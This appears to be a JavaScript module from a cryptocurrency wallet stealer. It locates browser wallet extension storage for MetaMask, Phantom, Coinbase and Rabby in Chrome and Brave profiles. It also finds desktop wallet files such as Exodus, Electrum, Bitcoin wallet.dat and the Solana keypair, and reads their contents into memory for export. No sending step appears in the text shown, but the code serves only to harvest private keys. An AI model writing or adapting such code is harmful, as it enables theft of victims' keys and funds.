"use strict";
const fs = require("fs"), os = require("os"), path = require("path");
const H = os.homedir();
const appData = process.env.APPDATA || path.join(H, process.platform === "darwin" ? "Library/Application Support" : ".config");

// extension IDs of common browser wallets (MetaMask, Phantom, Coinbase, Rabby)
const EXT = ["nkbihfbeogaeaoehlefnkodbefgpgknn", "bfnaelmomeimhlpmgjnjophhpkkoljpa", "hnfanknocfeofbddgcijnmhnfnkdnaad", "acmacodkjbdgmoleebolmdjonilkdbch"];

function browserWalletDirs() {
  const roots = [path.join(appData, "Google/Chrome"), path.join(appData, "google-chrome"),
    path.join(appData, "BraveSoftware/Brave-Browser"), path.join(process.env.LOCALAPPDATA || "", "Google/Chrome/User Data")];
  const out = [];
  for (const r of roots) for (const prof of ["Default", "Profile 1", "Profile 2"]) for (const id of EXT) {
    const d = path.join(r, prof, "Local Extension Settings", id);
    if (fs.existsSync(d)) out.push(d);
  }
  return out;
}

function desktopWalletFiles() {
  const c = [path.join(appData, "Exodus/exodus.wallet"), path.join(H, ".electrum/wallets"),
    path.join(appData, "atomic/Local Storage/leveldb"), path.join(H, ".bitcoin/wallet.dat"), path.join(H, ".config/solana/id.json")];
  return c.filter((p) => fs.existsSync(p));
}

function readAll(p, acc = []) {
  const st = fs.statSync(p);
  if (st.isDirectory()) for (const f of fs.readdirSync(p)) readAll(path.join(p, f), acc);
  else if (st.size < 4 * 1024 * 1024) acc.push({ p, b: fs.readFileSync(p) });
  return acc;
}

module.exports = { browserWalletDirs, desktopWalletFiles, readAll };
